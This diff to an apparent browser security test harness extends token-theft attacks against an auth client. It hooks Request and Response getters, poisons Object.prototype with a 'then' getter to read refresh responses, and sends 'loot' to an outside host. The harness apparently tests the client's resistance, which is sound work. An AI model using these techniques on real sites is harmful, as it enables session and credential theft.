@@ -63,7 +63,25 @@ async function reach() {
 async function hooks() {
   const found = [];
   const undo = [];
-  const look = (...values) => values.forEach((value) => inspect(value, 3));
+  const kept = new Set();
+  let hooked = 0;
+  const reading = [];
+  const { clone, text } = Response.prototype;
+  const read = (response) => Reflect.apply(text, Reflect.apply(clone, response, []), []);
+  let looking = false; // looking passes through the hooks as well
+  const look = (...values) => {
+    if (looking) return;
+    looking = true;
+    try {
+      for (const value of values) {
+        inspect(value, 3);
+        if (value instanceof Headers || value instanceof Request) kept.add(value); // it may be filled in later
+        if (value instanceof Response && !value.bodyUsed) reading.push(read(value));
+      }
+    } finally {
+      looking = false;
+    }
+  };
   const inspect = (value, depth) => {
     if (typeof value === "string") found.push(...tokens(value));
     else if (value instanceof Request || value instanceof Response) inspect(value.headers, 1);
@@ -87,8 +105,9 @@ async function hooks() {
     Object.defineProperty(home, name, {
       configurable: true,
       get() {
-        look(this);
-        return real?.get ? Reflect.apply(real.get, this, []) : real?.value;
+        const value = real?.get ? Reflect.apply(real.get, this, []) : real?.value;
+        look(this, value);
+        return value;
       },
     });
     undo.push(() => (real ? Object.defineProperty(home, name, real) : delete home[name]));
@@ -102,14 +121,37 @@ async function hooks() {
   wrap(Request.prototype, "clone");
   wrap(BroadcastChannel.prototype, "postMessage");
   spy(MessageEvent.prototype, "data");
-  spy(Request.prototype, "headers");
-  for (const name of ["then", "refresh_token", "signal", "toJSON"]) spy(Object.prototype, name);
+  for (const name of ["headers", "url", "signal"]) spy(Request.prototype, name);
+  for (const name of ["headers", "status", "ok", "body"]) spy(Response.prototype, name);
+  for (const name of ["refresh_token", "signal", "toJSON"]) spy(Object.prototype, name);
   try {
     await press();
   } finally {
+    hooked = undo.length;
     for (const step of undo.reverse()) step();
   }
-  return loot(found, "Twenty hooks, and the token went past none");
+  for (const value of kept) inspect(value, 1);
+  for (const body of await Promise.allSettled(reading)) found.push(...tokens(body.value));
+  return loot(found, `${hooked} hooks, and the token went past none`);
+}
+
+/** The browser itself looks for `then` on whatever a promise is fulfilled with, so also on the answer of a refresh. */
+async function poison() {
+  const reading = [];
+  const { clone, text } = Response.prototype;
+  Object.defineProperty(Object.prototype, "then", {
+    configurable: true,
+    get() {
+      if (this instanceof Response && !this.bodyUsed) reading.push(Reflect.apply(text, Reflect.apply(clone, this, []), []));
+      return undefined;
+    },
+  });
+  try {
+    await press();
+  } finally {
+    delete Object.prototype.then;
+  }
+  return loot(tokens((await Promise.all(reading)).join(" ")), "Nobody looked");
 }
 
 async function channel() {
@@ -188,7 +230,7 @@ async function send() {
     await fetch(away, { mode: "no-cors", method: "POST", body: "loot" });
     return { kind: "minutes", got: "The loot went out", worth: "–", tokens: [] };
   } catch {
-    return { kind: "nothing", got: "The policy let no request out", worth: "–", tokens: [] };
+    return { kind: "nothing", got: "No request went out; only leading the page away would", worth: "–", tokens: [] };
   }
 }
 
@@ -196,7 +238,8 @@ const ATTACKS = [
   [storage, "Read every storage", "local, session, databases, caches"],
   [cookies, "Read the cookies", "document.cookie, cookieStore"],
   [reach, "Search the window", "every object in reach"],
-  [hooks, "Wrap what tokens pass through", "fetch, XMLHttpRequest, Headers, JSON, Object.prototype"],
+  [hooks, "Wrap what tokens pass through", "fetch, XMLHttpRequest, Headers, Request, Response, JSON"],
+  [poison, "Poison every object", "a getter named then on Object.prototype"],
   [channel, "Listen to the tabs", "the client's BroadcastChannel"],
   [refresh, "Call refresh itself", "as the client does, with the cookie"],
   [elsewhere, "Ask from another site", "forms, frames, fetches, images"],
